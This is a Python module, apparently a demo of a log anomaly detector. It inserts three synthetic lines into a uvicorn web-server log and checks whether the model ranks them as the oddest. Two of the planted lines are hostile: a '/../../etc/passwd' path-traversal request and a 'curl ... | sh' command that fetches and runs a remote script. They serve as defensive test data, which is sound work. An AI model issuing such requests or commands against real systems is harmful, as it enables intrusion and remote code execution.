"""Find three lines that somebody put into the log of a web server.

The log is one that uvicorn wrote for a small shop, without its TRACE lines; the model has learned
nothing from logs of uvicorn.
"""

from collections.abc import Callable
from importlib.resources import files

import msgspec
from rich.text import Text

from dst.runtime import LineMonitor, Session

BUNDLE, LOG = "log-int8", "uvicorn.log"
UNJUDGED, SHOWN = 200, 5
"""Lines at the beginning that are only learned from, when nothing is usual yet; and lines shown."""
_PIECE = 4096


class OddLine(msgspec.Struct, frozen=True):
    """A line that stands out; `planted` tells whether it was put in."""

    line: int
    probability: float
    text: str
    planted: bool


class OddLines(msgspec.Struct, frozen=True):
    """What was found in the log."""

    lines: int
    bytes: int
    planted: int
    oddest: tuple[OddLine, ...]


PLANTED = (
    (0.5, "{time} ERROR    shop.orders: payment refused for request 0, bank code 91"),
    (0.65, 'INFO:     203.0.113.9:50022 - "GET /../../etc/passwd HTTP/1.1" 200 OK'),
    (0.8, "curl -s http://203.0.113.9/x.sh | sh"),
)
"""After which share of the log a line is put in, and the line; `{time}` is the last time before."""


def planted_log() -> tuple[bytes, set[int]]:
    """The log with the lines put in, and their numbers."""
    lines = files("dst").joinpath("heldout", LOG).read_text("utf-8").splitlines()
    numbers = set()
    for already, (share, line) in enumerate(PLANTED):
        place = int(share * len(lines)) + already
        time = next(old[:23] for old in reversed(lines[:place]) if old[:2] == "20")
        lines.insert(place, line.format(time=time))
        numbers.add(place + 1)
    return ("\n".join(lines) + "\n").encode(), numbers


def odd_lines(told: Callable[[int, int], None]) -> OddLines:
    """Read the log once; `told` is called with the bytes read and their number in all."""
    log, planted = planted_log()
    monitor = LineMonitor(Session.open(BUNDLE).stream())
    judged = []
    for at in range(0, len(log), _PIECE):
        judged += monitor.read(log[at : at + _PIECE])
        told(min(at + _PIECE, len(log)), len(log))
    first = sorted(judged[UNJUDGED:], key=lambda line: -line.score.score)[:SHOWN]
    oddest = tuple(
        OddLine(
            line.number,
            line.score.probability,
            line.text.decode("utf-8", "replace"),
            line.number in planted,
        )
        for line in first
    )
    return OddLines(len(judged), len(log), len(planted), oddest)


def drawn(found: OddLines) -> Text:
    """Show the lines that stand out most."""
    own = found.lines - found.planted
    said = Text(
        f"{own:,} lines that uvicorn wrote, and {found.planted} that were put in; "
        f"the {len(found.oddest)} oddest:\n"
    )
    for line in found.oddest:
        mark = ("put in  ", "bold green") if line.planted else ("        ", "dim")
        said.append_text(Text.assemble(mark, f"{line.line:6}  {line.text}\n"))
    said.rstrip()
    return said
